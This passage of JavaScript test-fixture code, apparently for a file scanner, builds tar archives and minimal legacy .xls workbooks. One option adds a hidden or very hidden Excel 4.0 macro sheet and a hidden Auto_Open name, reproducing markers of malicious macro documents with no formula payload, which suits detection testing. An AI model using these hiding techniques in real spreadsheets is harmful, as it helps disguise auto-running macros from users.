        parts.push(tarBlock(tarHeader({ name: 'PaxHeaders/long-name', size: pax.length, type: 'x', format }), pax));
        name = name.slice(-100).replace(/^\/+/, '');
      } else {
        const cut = name.lastIndexOf('/', 155);
        prefix = name.slice(0, cut);
        name = name.slice(cut + 1);
      }
    }
    parts.push(tarBlock(tarHeader({ name, size: data.length, type, linkName: e.linkName ?? '', format, prefix }), data));
  }
  parts.push(Buffer.alloc(1024));
  const tar = Buffer.concat(parts);
  return Buffer.concat([tar, Buffer.alloc((10240 - (tar.length % 10240)) % 10240)]);
}

// ---- legacy Excel (.xls): an OLE file with a BIFF8 Workbook stream ----

function biff(type, data = Buffer.alloc(0)) {
  const h = Buffer.alloc(4);
  h.writeUInt16LE(type, 0);
  h.writeUInt16LE(data.length, 2);
  return Buffer.concat([h, data]);
}

/** BOUNDSHEET: lbPlyPos, hsState (0 visible, 1 hidden, 2 very hidden), dt (0 worksheet, 1 macro sheet), name. */
function boundSheet(name, { state = 0, type = 0 } = {}) {
  const b = Buffer.alloc(8 + name.length);
  b.writeUInt32LE(0, 0);
  b[4] = state;
  b[5] = type;
  b[6] = name.length;
  b[7] = 0; // 8-bit characters
  b.write(name, 8, 'latin1');
  return biff(0x0085, b);
}

/** LBL (defined name): a built-in name is one character (0x01 Auto_Open, 0x06 Print_Area). */
function definedName(name, { builtin = false, hidden = false } = {}) {
  const chars = builtin ? Buffer.from([name]) : Buffer.from(name, 'latin1');
  const b = Buffer.alloc(15 + chars.length);
  b.writeUInt16LE((builtin ? 0x0020 : 0) | (hidden ? 0x0001 : 0), 0);
  b[3] = chars.length; // cch
  b.writeUInt16LE(0, 4); // cce: no formula (our reader looks at the name only)
  b[14] = 0; // 8-bit characters
  chars.copy(b, 15);
  return biff(0x0018, b);
}

/**
 * A legacy Excel workbook (.xls). `macroSheet: 'hidden' | 'very-hidden' | 'visible'` adds an Excel
 * 4.0 macro sheet "Macro1" and an Auto_Open name; without it, a plain workbook (a Print_Area name).
 * Only the workbook globals are written: BOF, sheets, names, EOF.
 */
export function makeXls({ macroSheet } = {}) {
  const bof = Buffer.alloc(16);
  bof.writeUInt16LE(0x0600, 0); // BIFF8
  bof.writeUInt16LE(0x0005, 2); // workbook globals
  bof.writeUInt16LE(0x0dbb, 4);
  bof.writeUInt16LE(0x07cc, 6);
  const codepage = Buffer.alloc(2);
  codepage.writeUInt16LE(1200, 0);
  const records = [biff(0x0809, bof), biff(0x0042, codepage), boundSheet('Sheet1')];
  if (macroSheet) {
    const state = { visible: 0, hidden: 1, 'very-hidden': 2 }[macroSheet];
    records.push(boundSheet('Macro1', { state, type: 0x01 }), definedName(0x01, { builtin: true, hidden: true }));
  } else {
    records.push(definedName(0x06, { builtin: true }));
  }
  records.push(biff(0x000a));
  const c = CFB.utils.cfb_new();
  CFB.utils.cfb_add(c, '/Workbook', Buffer.concat(records));
  return Buffer.from(CFB.write(c, { type: 'buffer' }));
}
